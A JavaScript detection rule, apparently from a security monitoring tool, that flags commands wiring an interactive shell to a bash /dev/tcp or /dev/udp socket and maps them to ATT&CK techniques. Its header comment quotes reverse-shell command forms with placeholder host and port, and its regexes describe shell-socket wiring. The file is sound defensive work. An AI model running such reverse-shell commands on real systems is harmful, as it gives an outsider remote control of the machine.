/**
 * proc.reverse-shell-dev-tcp: a shell wired to bash's /dev/tcp or /dev/udp (`bash -i >&
 * /dev/tcp/h/p 0>&1`, `exec 5<>/dev/tcp/...; sh <&5`, a `while read` loop over the socket).
 * ATT&CK T1059.004, T1071. Severity critical. A plain `echo > /dev/tcp/localhost/8080` probe is not.
 */
import { defineRule, execHit } from '../../rule.js';
import { commandText } from '../../lib/command.js';

const DEV_NET = /\/dev\/(tcp|udp)\/([^/\s"']+)\/(\d+)/;
const SHELL_WIRING = [
  /(^|[\s;|&(/])(ba|da|z|k|mk|tc)?sh\b[^|;&]*\s-i\b/, // an interactive shell
  /0>&1|0<&\d|<&\d+\s*>&\d|>&\d+\s*<&\d/, // stdin joined to the socket
  /(^|[\s;|&(/])(ba|da|z|k)?sh\s+<&\d/, // a shell reading commands from the socket
  /while\s+read\b/, // a command loop over the socket
];

export const devTcp = defineRule({
  id: 'proc.reverse-shell-dev-tcp',
  category: 'reverse-shell',
  severity: 'critical',
  attack: ['T1059.004', 'T1071'],
  reason: "A shell's input and output were wired to a /dev/tcp socket",
  kinds: ['process.exec'],
  check(event) {
    const text = commandText(event.argv);
    const dev = DEV_NET.exec(text);
    if (!dev || !SHELL_WIRING.some((re) => re.test(text))) return null;
    return execHit(event, `shell wired to /dev/${dev[1]}/${dev[2]}/${dev[3]}`, {
      target: `${dev[2]}:${dev[3]}`,
    });
  },
});
